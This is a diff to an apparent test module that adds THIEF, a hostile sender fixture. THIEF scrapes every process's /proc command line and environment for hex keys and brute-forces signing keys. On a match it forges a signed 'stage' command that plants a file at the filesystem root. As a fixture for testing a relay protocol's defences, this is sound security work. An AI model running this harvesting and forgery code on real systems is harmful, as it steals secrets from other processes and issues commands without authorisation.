@@ -56,6 +56,46 @@ def _made_up(self, entry, archive=0):
 Sender._file = Sender._member = _made_up
 """
 
+#: A sender that takes whatever looks like a key from all command lines and environments of the
+#: machine, and gives the receiver commands under each of them, whatever their number may be.
+THIEF = """
+import os, re
+from engine.agent.wire import HEADER, Seal
+_do_relay = Source.do_relay
+def _guesses():
+    texts = []
+    for process in os.listdir("/proc"):
+        for name in ("cmdline", "environ"):
+            try:
+                with open("/proc/%s/%s" % (process, name), "rb") as file:
+                    texts.append(file.read())
+            except OSError:
+                continue
+    text = b"\\n".join(texts)
+    for found in re.findall(rb"(?:[0-9a-f]{2}){64,}", text):
+        text += b"\\n" + bytes.fromhex(found.decode())
+    for found in set(re.findall(rb"[0-9a-f]{32,64}", text)):
+        for at in range(0, len(found) - 31, 32):
+            yield found[at:at + 32].decode()
+def _numbered(key, number):
+    seal = Seal(key)
+    seal._number = number
+    return seal
+def do_relay(self, blob):
+    with open("TRIED", "a") as tried:
+        for key in _guesses():
+            tried.write(key + "\\n")
+            for number in range(12):
+                signed = _numbered(key, number)._sign(blob[HEADER.size + Seal.SIZE:])
+                if signed == blob[HEADER.size:HEADER.size + Seal.SIZE]:
+                    tried.write("THE KEY\\n")
+                    self._writer.pass_on(_numbered(key, number).frame(
+                        {"op": "stage", "root": "/", "path": "PLANTED", "transfer_id": "x",
+                         "attempt": 9, "options": {}}))
+    return _do_relay(self, blob)
+Source.do_relay = do_relay
+"""
+
 
 def found(*entries: tuple[str, str, int, str]) -> str:
     """A scan that finds these: path, kind, size and a link's target of each."""
